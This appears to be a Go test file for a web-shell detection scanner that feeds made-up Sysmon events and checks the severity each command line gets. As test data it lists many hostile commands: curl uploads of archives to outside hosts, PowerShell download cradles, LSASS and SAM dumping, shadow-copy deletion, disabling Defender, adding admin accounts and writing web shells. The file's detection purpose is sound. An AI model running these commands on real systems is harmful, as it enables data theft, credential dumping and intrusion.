package scan_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"webshellscan/internal/evtxtest"
	"webshellscan/rules"
	"webshellscan/scan"
	"webshellscan/scan/finding"
)

// levelCase is a chain of command lines below a server, each below the one
// before, with the level that the first is to have.
type levelCase struct {
	source string
	server string // a key of levelServers
	lines  []string
	want   rules.Level
}

// levelServers are servers of made logs: image and command line.
var levelServers = map[string][2]string{
	"iis":      {w3wp, `w3wp.exe -ap "shop"`},
	"kudu":     {w3wp, `w3wp.exe -ap "~1shop"`},
	"apache":   {`C:\xampp\apache\bin\httpd.exe`, `httpd.exe -k runservice`},
	"phpcgi":   {`C:\php\php-cgi.exe`, `php-cgi.exe -b 127.0.0.1:9000`},
	"teamcity": {`C:\TeamCity\jre\bin\java.exe`, `java.exe -cp x org.apache.catalina.startup.Bootstrap start`},
	"manage":   {`C:\ManageEngine\ADManager Plus\jre\bin\java.exe`, `java.exe -Dcatalina.home=.. org.apache.catalina.startup.Bootstrap`},
	"next":     {`C:\Program Files\nodejs\node.exe`, `node.exe node_modules\next\dist\bin\next start`},
	"python":   {`C:\Python311\python.exe`, `python.exe manage.py runserver`},
	"runtime":  {`C:\shop\jre\bin\java.exe`, ""},
	"tomcat":   {`C:\Tomcat\bin\tomcat9.exe`, `tomcat9.exe //RS//Tomcat9`},
	"jenkins":  {`C:\Program Files\Java\jdk-17\bin\java.exe`, `java.exe -jar "C:\Program Files\Jenkins\jenkins.war" --httpPort=8080`},
	"mssql":    {`C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe`, `sqlservr.exe -sMSSQLSERVER`},
	"sqlagent": {`C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\SQLAGENT.EXE`, `SQLAGENT.EXE -i MSSQLSERVER`},
	"postgres": {`C:\Program Files\PostgreSQL\15\bin\postgres.exe`, `"C:/Program Files/PostgreSQL/15/bin/postgres.exe" "--forkarch"`},
	"pgctl":    {`C:\Program Files\PostgreSQL\15\bin\pg_ctl.exe`, `pg_ctl.exe start -w -D "C:\Program Files\PostgreSQL\15\data"`},
	"gitea":    {`C:\gitea\gitea.exe`, `gitea.exe web --config C:\gitea\custom\conf\app.ini`},
	"splunk":   {`C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe`, `splunkd.exe service`},
}

// programOf returns the image that a command line runs, as far as these tests
// need it: what stands before " := " if that is there.
func programOf(line string) string {
	if image, _, ok := strings.Cut(line, " := "); ok {
		return image
	}
	first := strings.ToLower(strings.Trim(strings.Fields(line)[0], `"`))
	name := strings.TrimSuffix(first[strings.LastIndexByte(first, '\\')+1:], ".exe") + ".exe"
	if name == "powershell.exe" {
		return `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	}
	return `C:\Windows\System32\` + name
}

// levelEvents are the events of a case, on a host of its own.
func levelEvents(host string, c levelCase) []evtxtest.Event {
	at := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
	server := levelServers[c.server]
	var events []evtxtest.Event
	create := func(pid uint32, image, line, parentImage, parentLine string) {
		at = at.Add(time.Second)
		events = append(events, evtxtest.NewEvent(at, host, &evtxtest.SysmonProcessCreate{
			ProcessID: pid, ParentProcessID: pid - 4, Image: image, CommandLine: line, User: shopUser, LogonID: 0x9999, IntegrityLevel: "High",
			ParentImage: parentImage, ParentCommandLine: parentLine,
		}))
	}
	create(400, server[0], server[1], `C:\Windows\System32\services.exe`, "services.exe")
	image, line := server[0], server[1]
	for i, next := range c.lines {
		program := programOf(next)
		if _, after, ok := strings.Cut(next, " := "); ok {
			next = after
		}
		create(uint32(404+4*i), program, next, image, line)
		image, line = program, next
	}
	return events
}

// scanCases scans cases, each on a host of its own, and returns the result with
// the first finding of each.
func scanCases(t *testing.T, o scan.RuleOptions, cases ...levelCase) (*scan.Result, []*finding.Finding) {
	t.Helper()
	var events []evtxtest.Event
	for i, c := range cases {
		events = append(events, levelEvents(fmt.Sprintf("HOST%d", i), c)...)
	}
	folder := logFolder(t, "sysmon.evtx", events)
	res := mustScan(t, scan.Options{Paths: []string{folder}, Rules: o})
	first := make([]*finding.Finding, len(cases))
	for _, f := range res.Findings {
		var i int
		if _, err := fmt.Sscanf(f.Host, "HOST%d", &i); err != nil {
			t.Fatal(err)
		}
		if first[i] == nil {
			first[i] = f
		}
	}
	return res, first
}

func checkLevels(t *testing.T, cases []levelCase) {
	t.Helper()
	_, first := scanCases(t, scan.RuleOptions{}, cases...)
	for i, c := range cases {
		if c.source == "" {
			t.Errorf("%q has no source", c.lines)
		}
		switch f := first[i]; {
		case f == nil:
			t.Errorf("%s: %q: no finding", c.server, c.lines)
		case f.Level != c.want:
			t.Errorf("%s: %q: %s, want %s: %v", c.server, c.lines, f.Level, c.want, f.LevelReasons)
		}
	}
}

// Where what commands do is written down.
const (
	sigmaShell      = "SigmaHQ proc_creation_win_webshell_susp_process_spawned_from_webserver, its filters"
	sigmaRecon      = "SigmaHQ proc_creation_win_webshell_recon_commands_and_processes"
	sigmaHacking    = "SigmaHQ proc_creation_win_webshell_hacking"
	sigmaChopper    = "SigmaHQ proc_creation_win_webshell_chopper"
	car13           = "MITRE CAR-2013-04-002"
	elasticShell    = "Elastic persistence_webshell_detection, its exclusions"
	splunkShell     = "Splunk 2d4470ef-7158-4b47-b68b-1f7f16382156, its false positives"
	lolbas          = "lolbas-project.github.io"
	hafnium         = "microsoft.com/en-us/security/blog/2021/03/02/hafnium-targeting-exchange-servers"
	windowsCommands = "learn.microsoft.com, Windows commands"
	wmiDisk         = "TechNet Wiki 35609, disk space by WMI from SQL Server"
	jenkinsPS       = "jenkinsci/powershell-plugin PowerShell.java"
	toolshell       = "microsoft.com/en-us/security/blog/2025/07/22 (ToolShell)"
	veeamScripts    = "helpcenter.veeam.com, scripts of backup jobs"
)

// TestBehaviour: what intruders do is high or critical, whatever shell it is
// said in.
func TestBehaviour(t *testing.T) {
	high, critical := rules.LevelHigh, rules.LevelCritical
	checkLevels(t, []levelCase{
		{"SigmaHQ proc_creation_win_curl_upload_file_sharing_websites", "iis", []string{`cmd.exe /c curl -T D:\b.zip https://transfer.sh/b.zip`}, high},
		{"SigmaHQ proc_creation_win_curl_upload_file_sharing_websites", "iis", []string{`cmd.exe /c curl -sT D:\b.zip https://transfer.sh`}, high},
		{"everything.curl.dev, uploads and options together", "iis", []string{`cmd.exe /c curl -sT D:\b.zip http://203.0.113.1/b`}, high},
		{"everything.curl.dev, URLs without a scheme", "iis", []string{`cmd.exe /c curl -T D:\b.zip 203.0.113.1:8000/b`}, high},
		{"everything.curl.dev, -d @file", "iis", []string{`cmd.exe /c curl --data-binary @D:\b.zip http://203.0.113.1/u`}, high},
		{"everything.curl.dev, -d @file", "iis", []string{`cmd.exe /c curl -d @D:\b.zip http://127.0.0.1/u & echo http://203.0.113.1`}, high},
		{"everything.curl.dev, -d @file", "iis", []string{`cmd.exe /c curl -d @D:\b.json http://127.0.0.1:8080/u`}, rules.LevelMedium},
		{"everything.curl.dev, -d", "iis", []string{`cmd.exe /c curl -d state=on http://203.0.113.1/api`}, rules.LevelMedium},
		{"everything.curl.dev, -X", "iis", []string{`cmd.exe /c curl -XPOST http://203.0.113.1/api`}, rules.LevelMedium},
		{"everything.curl.dev, -H", "iis", []string{`cmd.exe /c curl -H "Host: 10.0.0.1" https://intranet.example/in`}, rules.LevelMedium},
		{"everything.curl.dev, -o", "iis", []string{`cmd.exe /c curl -o D:\a.exe http://203.0.113.1/a.exe`}, high},
		{"everything.curl.dev, -f", "iis", []string{`cmd.exe /c curl -f http://intranet.example/in`}, rules.LevelMedium},
		{"learn.microsoft.com, tscon, a session by its name", "iis", []string{`cmd.exe /c tscon rdp-tcp#5 /dest:console`}, critical},
		{"learn.microsoft.com, tscon, /password", "iis", []string{`cmd.exe /c tscon 2 /password:x /dest:console`}, critical},
		{"SigmaHQ proc_creation_win_susp_shadow_copies_creation", "iis", []string{`powershell.exe -c "(gwmi -list win32_shadowcopy).Create('C:\','ClientAccessible')"`}, high},
		{lolbas, "iis", []string{`cmd.exe /c DumpMinitool.exe --file D:\a.txt --processId 1132 --dumpType Full`}, critical},
		{lolbas, "iis", []string{`cmd.exe /c dump64.exe 624 D:\a.dmp`}, critical},
		{lolbas, "iis", []string{`cmd.exe /c adplus.exe -hang -pn lsass.exe -o D:\a -quiet`}, critical},
		{"microsoft/terminal ConsoleArguments.cpp", "iis", []string{`conhost.exe --headless -- cmd.exe /c dir`}, high},
		{"SigmaHQ net_dns_external_service_interaction_domains", "tomcat", []string{`ping -n 1 x7f.requestbin.net`}, high},
		{"SigmaHQ proc_creation_win_cmd_sticky_keys_replace", "iis", []string{`cmd.exe /c copy /y C:\windows\system32\cmd.exe C:\windows\system32\sethc.exe`}, high},
		{"SigmaHQ proc_creation_win_tscon_rdp_session_hijacking", "iis", []string{`cmd.exe /c tscon 2 /dest:console`}, critical},
		{"SigmaHQ proc_creation_win_wmic_recon_product_class", "iis", []string{`cmd.exe /c wmic /namespace:\\root\securitycenter2 path antivirusproduct get displayname`}, high},
		{"SigmaHQ net_dns_external_service_interaction_domains", "tomcat", []string{`ping -n 1 x7f.oast.live`}, high},
		{lolbas, "iis", []string{`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /U D:\x\a.dll`}, high},
		{lolbas, "jenkins", []string{`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe D:\ws\Service.exe`}, rules.LevelMedium},
		{"SigmaHQ proc_creation_win_curl_fileupload, its filter", "iis", []string{`cmd.exe /c curl -F "f=@D:\a.csv" http://127.0.0.1:8080/in`}, rules.LevelMedium},
		{"SigmaHQ proc_creation_win_curl_fileupload, its filter", "iis", []string{`cmd.exe /c curl -x http://127.0.0.1:8080 -F "f=@D:\a.csv" https://a.temp.sh`}, high},
		{"everything.curl.dev, multipart formpost", "iis", []string{`cmd.exe /c curl -F "f=@D:\jobs\temp.sh" https://intranet.example/in`}, rules.LevelMedium},
		{"everything.curl.dev, multipart formpost", "iis", []string{`cmd.exe /c curl -d state=on https://profile.io/file.iot`}, rules.LevelMedium},
		{sigmaRecon, "iis", []string{`cmd.exe /c whoami`}, high},
		{sigmaRecon, "tomcat", []string{`cmd /c whoami /all > C:\x\o.txt`}, high},
		{sigmaRecon, "next", []string{`C:\Windows\system32\cmd.exe /d /s /c "whoami"`}, high},
		{"SigmaHQ proc_creation_win_cmd_dosfuscation", "iis", []string{`cmd.exe /c w^h^o^ami`}, high},
		{"SigmaHQ proc_creation_win_cmd_dosfuscation", "iis", []string{`cmd.exe /c who""ami`}, high},
		{car13, "iis", []string{`cmd.exe /c net user`}, high},
		{car13, "iis", []string{`cmd.exe /c "net  localgroup administrators"`}, high},
		{car13, "apache", []string{`cmd.exe /s /c "systeminfo"`}, high},
		{car13, "apache", []string{`cmd.exe /s /c "hostname & ipconfig"`}, high},
		{car13, "iis", []string{`cmd.exe /c quser`}, high},
		{car13, "iis", []string{`cmd.exe /c nltest /domain_trusts`}, high},
		{car13, "iis", []string{`cmd.exe /c net group "domain admins" /domain`}, high},
		{sigmaHacking, "apache", []string{`cmd.exe /c dir C:\`}, high},
		{sigmaHacking, "iis", []string{`cmd.exe /c type C:\inetpub\wwwroot\web.config`}, high},
		{"SigmaHQ proc_creation_win_certutil_download", "iis", []string{`cmd.exe /c certutil -urlcache -split -f http://203.0.113.9/a.exe C:\apps\a.exe`}, high},
		{"SigmaHQ proc_creation_win_powershell_download_cradles", "iis", []string{`powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.4/a')"`}, high},
		{lolbas, "tomcat", []string{`cmd.exe /c "start msiexec /q /i http://203.0.113.97/m2.png"`}, high},
		{lolbas, "tomcat", []string{`cmd.exe /c curl http://203.0.113.97/a.exe -o D:\apps\a.exe`}, high},
		{"SigmaHQ proc_creation_win_powershell_base64_encoded_cmd", "iis", []string{`powershell.exe -enc dwBoAG8AYQBtAGkA`}, high},
		{"SigmaHQ proc_creation_win_net_user_add", "iis", []string{`cmd.exe /c net user asp$ P@ss /add`}, critical},
		{"SigmaHQ proc_creation_win_susp_add_user_local_admin_group", "iis", []string{`cmd.exe /c net localgroup Administrators u1 /add`}, critical},
		{toolshell, "iis", []string{`powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"`}, critical},
		{"SigmaHQ proc_creation_win_susp_shadow_copies_deletion", "iis", []string{`cmd.exe /c vssadmin delete shadows /all /quiet`}, critical},
		{"SigmaHQ proc_creation_win_schtasks_creation", "iis", []string{`cmd.exe /c schtasks /create /ru system /sc MINUTE /tn x /tr D:\apps\x.exe`}, high},
		{hafnium, "iis", []string{`cmd.exe /c rundll32 C:\windows\system32\comsvcs.dll MiniDump 624 C:\x\l.dmp full`}, critical},
		{hafnium, "iis", []string{`cmd.exe /c D:\tools\procdump64.exe -accepteula -ma lsass.exe D:\x.dmp`}, critical},
		{"SigmaHQ proc_creation_win_reg_dumping_sensitive_hives", "iis", []string{`cmd.exe /c reg save hklm\sam D:\s.hiv`}, critical},
		{"SigmaHQ proc_creation_win_susp_eventlog_clear", "iis", []string{`cmd.exe /c wevtutil cl Security`}, critical},
		{"SigmaHQ proc_creation_win_pua_chisel", "iis", []string{`cmd.exe /c D:\apps\chisel.exe client 203.0.113.1:443 R:socks`}, high},
		{"SigmaHQ proc_creation_win_netsh_port_forwarding", "iis", []string{`cmd.exe /c netsh interface portproxy add v4tov4 listenport=1 connectaddress=10.0.0.1`}, high},
		{"SigmaHQ proc_creation_win_sysinternals_psexec_execution", "iis", []string{`cmd.exe /c D:\tools\PsExec.exe -accepteula \\10.1.1.5 -s cmd`}, high},
		{"SigmaHQ file_event_win_webshell_creation_detect", "iis", []string{`cmd.exe /c echo x > C:\inetpub\wwwroot\a.aspx`}, critical},
		{"SigmaHQ file_event_win_webshell_creation_detect", "iis", []string{`cmd.exe /c copy D:\a.txt D:\site\b.php`}, critical},
		{sigmaChopper, "iis", []string{`"cmd" /c cd /d "c:\inetpub\wwwroot\"&dir&echo [S]&cd&echo [E]`}, critical},
		{"AntSwordProject/antSword source/core/base.js", "apache", []string{`cmd /c "cd /d "C:/www"&whoami&echo efa923ba504&cd&echo 1a4be8815ef8"`}, critical},
		{"BeichenDream/GodPotato", "iis", []string{`cmd.exe /c D:\x\GodPotato-NET4.exe -cmd "cmd /c set"`}, critical},
		{"SigmaHQ proc_creation_win_susp_execution_path", "iis", []string{`cmd.exe /c C:\Windows\Temp\x.exe`}, high},
		{"SigmaHQ proc_creation_win_rundll32_susp_activity", "iis", []string{`rundll32.exe c:\programdata\afk.ttf,bkfkals`}, high},
		{"github.com/noperator/CVE-2019-18935", "iis", []string{`cmd.exe`}, high},
		{"SigmaHQ proc_creation_win_netsh_fw_add_rule", "iis", []string{`cmd.exe /c netsh advfirewall firewall add rule name="a" dir=in action=allow`}, critical},
		{"SigmaHQ proc_creation_win_netsh_fw_add_rule", "iis", []string{`cmd.exe /c netsh advfirewall firewall show rule name=all`}, high},
		{"Cisco Talos 2019-04-30 Sodinokibi", "tomcat", []string{`powershell.exe wget http://203.0.113.1/office.exe -outfile C:\x\office.exe`}, high},
		{"SigmaHQ dns_query_win_susp_external_ip_lookup", "apache", []string{`cmd.exe /s /c "curl https://api.ipify.org"`}, high},
		{"SigmaHQ dns_query_win_susp_external_ip_lookup", "apache", []string{`cmd.exe /s /c "curl https://intranet.example/ident.me"`}, rules.LevelMedium},
		{"SigmaHQ proc_creation_win_susp_eventlog_content_recon", "iis", []string{`cmd.exe /c wevtutil qe security /q:*[System[(EventID=4624)]]`}, high},
		{"Elastic execution_from_unusual_directory", "iis", []string{`C:\Windows\appcompat\a\b.exe := b.exe`}, critical},
		{"SigmaHQ proc_creation_win_susp_system_exe_anomaly", "iis", []string{`C:\Windows\System32\conhost\conhost.exe := conhost.exe /usermode`}, high},
		{"SigmaHQ proc_creation_win_susp_system_exe_anomaly", "iis", []string{`C:\ProgramData\conhost.exe := `}, critical},
		{"SigmaHQ proc_creation_win_susp_system_exe_anomaly", "iis", []string{`D:\app\wmiprvse.exe := wmiprvse.exe`}, high},
		{"attack.mitre.org T1055.012", "teamcity", []string{`C:\Windows\System32\dllhost.exe := dllhost.exe`}, high},
		{"attack.mitre.org T1556.002", "iis", []string{`cmd.exe /c reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "Notification Packages" /d "scecli\0a" /f`}, high},
		{"attack.mitre.org T1556.002", "iis", []string{`cmd.exe /c reg add HKLM\SOFTWARE\Shop /v Packages /d a /f`}, rules.LevelMedium},
	})
}

// TestHabits: what applications are known to do is low, and what only runs a
// program is medium at most; the least that speaks against it wins.
func TestHabits(t *testing.T) {
	low, medium, high, critical := rules.LevelLow, rules.LevelMedium, rules.LevelHigh, rules.LevelCritical
	checkLevels(t, []levelCase{
		{windowsCommands, "apache", []string{`cmd.exe /s /c "wmic logicaldisk where "DeviceID='C:'" get FreeSpace"`}, medium},
		{windowsCommands, "tomcat", []string{`arp -a 10.1.1.1`}, medium},
		{windowsCommands, "tomcat", []string{`arp -a`}, high},
		{windowsCommands, "mssql", []string{`cmd.exe /c fsutil volume diskfree D:`}, medium},
		{windowsCommands, "iis", []string{`cmd.exe /c fsutil fsinfo drives`}, high},
		{windowsCommands, "iis", []string{`cmd.exe /c net start spooler`}, medium},
		{windowsCommands, "iis", []string{`cmd.exe /c net start`}, high},
		{veeamScripts, "tomcat", []string{`cmd.exe /c net stop OrderService`}, medium},
		{veeamScripts, "tomcat", []string{`net stop "Veeam Backup Service"`}, high},
		{"hstechdocs.helpsystems.com, EFT, Execute command", "tomcat", []string{`"C:\Windows\System32\cscript.exe" //nologo "C:\EFT\archive\a.vbs" D:\in\a.csv`}, medium},
		{"hstechdocs.helpsystems.com, EFT, Execute command", "tomcat", []string{`"C:\Windows\System32\cscript.exe" //nologo "C:\Windows\Temp\a.vbs" D:\in\a.csv`}, high},
		{"jenkinsci/jenkins ArgumentListBuilder.java", "jenkins", []string{`cmd.exe /C " "C:\BuildTools\Bin\MSBuild.exe" /p:Configuration=Release App.sln " && exit %%ERRORLEVEL%%`}, medium},
		{"jenkinsci/jenkins ArgumentListBuilder.java", "runtime", []string{`cmd.exe /C "C:\maven\bin\mvn.cmd -B install && exit %%ERRORLEVEL%%"`}, medium},
		{"jenkinsci/jenkins ArgumentListBuilder.java", "jenkins", []string{`cmd.exe /C "C:\Windows\Temp\a.exe && exit %%ERRORLEVEL%%"`}, high},
		{"jenkinsci/jenkins ArgumentListBuilder.java", "iis", []string{`cmd.exe /C "C:\maven\bin\mvn.cmd -B install && exit %%ERRORLEVEL%%"`}, high},
		{"matomo-org/matomo CliMulti.php", "apache", []string{`cmd.exe /s /c ""C:\php\php.exe" -q D:\matomo\console climulti:request -q --matomo-domain="a.example" "module=API&method=API.get" 2>&1"`}, low},
		{"matomo-org/matomo CliMulti.php", "apache", []string{`cmd.exe /s /c ""C:\php\php.exe" -q D:\matomo\console climulti:request -q --matomo-domain="a.example" "module=API"&whoami"`}, high},
		{"docs.cacti.net, Installing Under Windows", "apache", []string{`cmd.exe /s /c "C:\usr\bin\snmpwalk.exe -v2c -c public 10.1.1.1"`}, low},
		{"docs.cacti.net, Installing Under Windows", "apache", []string{`cmd.exe /s /c "C:\usr\bin\snmpwalk.exe -v2c -c public 10.1.1.1 > C:\www\a.php"`}, critical},
		{"danielzzz/node-ping lib/builder/win.js", "next", []string{`ping -n 1 -w 5000 10.1.1.1`}, low},
		{"danielzzz/node-ping lib/builder/win.js", "next", []string{`ping -n 1 10.1.1.1`}, medium},
		{"servicenow.com, PowerShell probe", "splunk", []string{`powershell.exe -WindowStyle Hidden -command "& 'C:\MID\agent\scripts\a.ps1' -computer 'app01'"`}, low},
		{"servicenow.com, PowerShell probe", "splunk", []string{`powershell.exe -WindowStyle Hidden -enc dwBoAG8AYQBtAGkA`}, high},
		{"servicenow.com, PowerShell probe", "splunk", []string{`powershell.exe -WindowStyle Hidden -File C:\Windows\Temp\a.ps1`}, high},
		{windowsCommands, "tomcat", []string{`cmd.exe /c tasklist /fi "imagename eq soffice.bin"`}, medium},
		{windowsCommands, "tomcat", []string{`cmd.exe /c tasklist /fi "imagename eq MsMpEng.exe"`}, high},
		{windowsCommands, "iis", []string{`cmd.exe /c certutil -hashfile D:\drop\a.zip SHA256`}, medium},
		{windowsCommands, "iis", []string{`certutil -hashfile C:\Windows\Temp\a.zip SHA256`}, high},
		{windowsCommands, "apache", []string{`cmd.exe /s /c "tar -xf D:\in\a.tgz -C D:\in"`}, medium},
		{"libarchive wiki, ManPageBsdtar1", "apache", []string{`cmd.exe /s /c "tar -zxvf D:\in\a.tgz -C D:\in"`}, medium},
		{windowsCommands, "apache", []string{`cmd.exe /s /c "tar -xf C:\Users\Public\a.tgz -C C:\Users\Public"`}, high},
		{windowsCommands, "next", []string{`C:\WINDOWS\system32\cmd.exe /d /s /c "tar -xf D:\in\a.tgz -C D:\in"`}, medium},
		{windowsCommands, "apache", []string{`cmd.exe /s /c "tar -xf C:\in\a.tgz -C C:\in\..\Windows\Temp"`}, high},
		{windowsCommands, "apache", []string{`cmd.exe /s /c "tar -xf C:\in\a.tgz -C C:\PROGRA~3\a"`}, high},
		{"php.net sys_getloadavg", "apache", []string{`cmd.exe /s /c "wmic cpu get loadpercentage /all"`}, medium},
		{"github.com/stephenc/eaio-uuid", "tomcat", []string{`ipconfig /all`}, medium},
		{"github.com/stephenc/eaio-uuid", "tomcat", []string{`cmd.exe /c ipconfig /all`}, high},
		{"github.com/stephenc/eaio-uuid", "iis", []string{`ipconfig /all`}, high},
		{wmiDisk, "mssql", []string{`"C:\Windows\system32\cmd.exe" /c powershell.exe -c "Get-WmiObject -Class Win32_Volume | select name,capacity,freespace"`}, medium},
		{wmiDisk, "mssql", []string{`powershell.exe -c "gwmi Win32_LogicalDisk -Filter 'DriveType=3' | foreach{$_.name+'|'+$_.freespace/1048576}"`}, medium},
		{wmiDisk, "mssql", []string{`powershell.exe -c "gwmi Win32_LogicalDisk | foreach{iex $_.VolumeName}"`}, high},
		{wmiDisk, "mssql", []string{`powershell.exe -c "gwmi Win32_LogicalDisk | foreach{start-process calc}"`}, high},
		{"learn.microsoft.com, CmdExec job step", "sqlagent", []string{`C:\Windows\System32\cmd.exe := `, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe := `}, low},
		{"learn.microsoft.com, CmdExec job step", "mssql", []string{`C:\Windows\System32\cmd.exe := `, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe := `}, high},
		{wmiDisk, "mssql", []string{`powershell.exe -c "gwmi Win32_LogicalDisk; whoami"`}, high},
		{jenkinsPS, "jenkins", []string{`powershell.exe -NonInteractive -ExecutionPolicy ByPass "& 'C:\Windows\TEMP\jenkins4418829931.ps1'"`}, medium},
		{jenkinsPS, "jenkins", []string{`powershell.exe -NonInteractive -ExecutionPolicy ByPass "& 'C:\Windows\TEMP\x.ps1'"`}, high},
		{jenkinsPS, "tomcat", []string{`powershell.exe -NonInteractive -ExecutionPolicy ByPass "& 'C:\Windows\TEMP\jenkins4418829931.ps1'"`}, high},
		{sigmaShell, "apache", []string{`cmd.exe /c "stty 2>&1"`}, low},
		{sigmaShell, "apache", []string{`cmd.exe /s /c "tput colors 2>&1"`}, low},
		{sigmaShell, "apache", []string{`cmd.exe /c "mode CON 2> NUL"`}, low},
		{sigmaShell, "apache", []string{`cmd.exe /c "stty & whoami"`}, high},
		{sigmaShell, "apache", []string{`cmd.exe /c "stty > C:\www\a.php"`}, critical},
		{"python/cpython Lib/platform.py", "tomcat", []string{`cmd.exe /c ver`}, low},
		{"python/cpython Lib/platform.py", "tomcat", []string{`cmd.exe /c ver & whoami`}, high},
		{"python/cpython Lib/platform.py", "tomcat", []string{`cmd.exe /c ver | more`}, high},
		{sigmaShell, "apache", []string{`cmd.exe /s /c "git rev-parse --short HEAD"`}, low},
		{sigmaShell, "iis", []string{`cmd.exe /c git rev-parse HEAD & whoami`}, high},
		{sigmaShell, "iis", []string{`cmd.exe /c git rev-parse HEAD && D:\x.exe`}, high},
		{sigmaShell, "iis", []string{`cmd.exe /c git rev-parse %COMSPEC%`}, high},
		{sigmaShell, "iis", []string{`cmd.exe /c git rev-parse HEAD | D:\x.exe`}, high},
		{sigmaShell, "iis", []string{`cmd.exe /c git log --output=D:\site\x.txt`}, medium},
		{sigmaShell, "apache", []string{`cmd.exe /V:ON /E:ON /D /C (git --version)`}, low},
		{"composer/composer ZipDownloader.php", "apache", []string{`cmd.exe /V:ON /E:ON /D /C (where unzip)`}, low},
		{"symfony/process", "apache", []string{`cmd.exe /V:ON /E:ON /D /C (wkhtmltopdf --header-html h.html a.html b.pdf) 1>a 2>b`}, low},
		{"symfony/process", "apache", []string{`cmd.exe /V:ON /E:ON /D /C (wkhtmltopdf a.html b.pdf) 1>a.php 2>b`}, critical},
		{splunkShell, "iis", []string{`cmd.exe /c "C:\Program Files\ImageMagick-7.1.0\magick.exe convert a.png b.jpg"`}, low},
		{splunkShell, "iis", []string{`cmd.exe /c C:\Windows\Temp\magick.exe a.png b.jpg`}, high},
		{"laravel/framework Console/Scheduling/Event.php", "apache", []string{`cmd.exe /V:ON /E:ON /D /C "C:\php\php.exe artisan queue:work"`}, low},
		{"laravel/framework Console/Scheduling/Event.php", "apache", []string{`cmd.exe /C "C:\php\php.exe artisan tinker --execute=system('whoami')"`}, high},
		{"Elastic initial_access_exploit_jetbrains_teamcity", "teamcity", []string{`cmd.exe /c dir /-c C:\ProgramData\JetBrains`}, low},
		{"Elastic initial_access_exploit_jetbrains_teamcity", "teamcity", []string{`cmd.exe /c dir /-c C:\ProgramData\JetBrains & net user`}, high},
		{"apache/commons-io FileSystemUtils", "iis", []string{`cmd.exe /c dir /-c C:\ProgramData\JetBrains`}, medium},
		{"apache/commons-io FileSystemUtils", "iis", []string{`cmd.exe /c dir /-c C:\inetpub D:\backup`}, high},
		{"apache/commons-io FileSystemUtils", "iis", []string{`cmd.exe /c dir C:\ProgramData\JetBrains`}, high},
		{sigmaShell, "manage", []string{`C:\Windows\system32\cmd.exe /c C:\ManageEngine\ADManager "Plus\ES\bin\elasticsearch.bat -Enode.name=RMP-NODE1 -pelasticsearch-pid.txt`}, low},
		{sigmaShell, "manage", []string{`cmd.exe /c sc query "ADManager Plus"`}, low},
		{sigmaShell, "iis", []string{`cmd.exe /c sc query "ADManager Plus"`}, high},
		{sigmaShell, "phpcgi", []string{`cmd.exe /c "ipconfig /all"`}, low},
		{sigmaShell, "tomcat", []string{`cmd.exe /c ipconfig /all`}, high},
		{"vercel/next.js", "next", []string{`C:\WINDOWS\system32\cmd.exe /d /s /c "netstat -ano | findstr /C::3000 | findstr LISTENING"`}, low},
		{"vercel/next.js", "next", []string{`C:\WINDOWS\system32\cmd.exe /d /s /c "netstat -ano | findstr /C::3000 & whoami"`}, high},
		{"vercel/next.js", "iis", []string{`cmd.exe /c "netstat -ano | findstr /C::3000"`}, high},
		{elasticShell, "iis", []string{`cmd.exe /c echo 'HttpsPortDesktopAgent'`}, low},
		{elasticShell, "iis", []string{`cmd.exe /c echo [S]&cd`}, critical},
		{elasticShell, "iis", []string{`"powershell.exe" netsh http show servicestate | ?{$_.Tostring().Contains("8080")}`}, low},
		{elasticShell, "iis", []string{`"powershell.exe" netsh http show servicestate | iex`}, high},
		{"projectkudu/kudu wiki", "kudu", []string{`cmd.exe /c deploy.cmd`}, low},
		{splunkShell, "iis", []string{`cmd.exe /c deploy.cmd`}, medium},
		{splunkShell, "iis", []string{`cmd.exe /c D:\batch\export.bat`}, medium},
		{splunkShell, "apache", []string{`cmd.exe /s /c "node E:\app\gen.js"`}, medium},
		{splunkShell, "apache", []string{`cmd.exe /s /c "node -e require('child_process')"`}, high},
		{elasticShell, "iis", []string{`cmd.exe /c C:\apps\sync.exe https://prod.vault.azure.net/secrets`}, medium},
		{splunkShell, "iis", []string{`powershell.exe -NoProfile -File C:\inetpub\reports\disk.ps1`}, medium},
		{"paessler.com PRTG custom sensors; CVE-2018-9276", "iis", []string{`powershell.exe -ExecutionPolicy Bypass -File "C:\PRTG\demo.ps1" "x;net user p3nT3st P3n! /add"`}, critical},
		{splunkShell, "iis", []string{`powershell.exe -NoProfile -File C:\Windows\Temp\disk.ps1`}, high},
		{splunkShell, "iis", []string{`cmd.exe /c evil.exe`}, high},
		{"automation-stack/node-machine-id", "tomcat", []string{`wmic cpu get ProcessorId`}, low},
		{"automation-stack/node-machine-id", "tomcat", []string{`cmd.exe /c wmic baseboard get serialnumber`}, low},
		{"automation-stack/node-machine-id", "next", []string{`cmd.exe /d /s /c "reg query HKLM\SOFTWARE\Microsoft\Cryptography /v MachineGuid"`}, low},
		{"automation-stack/node-machine-id", "tomcat", []string{`cmd.exe /c wmic baseboard get serialnumber & whoami`}, high},
		{"automation-stack/node-machine-id", "tomcat", []string{`wmic computersystem get domain`}, high},
		{"Alex-D/check-disk-space", "next", []string{`C:\Windows\system32\cmd.exe /d /s /c "wmic logicaldisk get size,freespace,caption"`}, medium},
		{"Alex-D/check-disk-space", "next", []string{`wmic logicaldisk get size,freespace,caption`}, medium},
		{"Alex-D/check-disk-space", "next", []string{`wmic logicaldisk get size,freespace,caption /node:dc01`}, high},
		{"Alex-D/check-disk-space", "next", []string{`cmd.exe /d /s /c "wmic logicaldisk get size & whoami"`}, high},
		{"sebhildebrandt/systeminformation", "next", []string{`wmic cpu get name`}, medium},
		{"sebhildebrandt/systeminformation", "next", []string{`wmic os get FreePhysicalMemory,TotalVisibleMemorySize /value`}, medium},
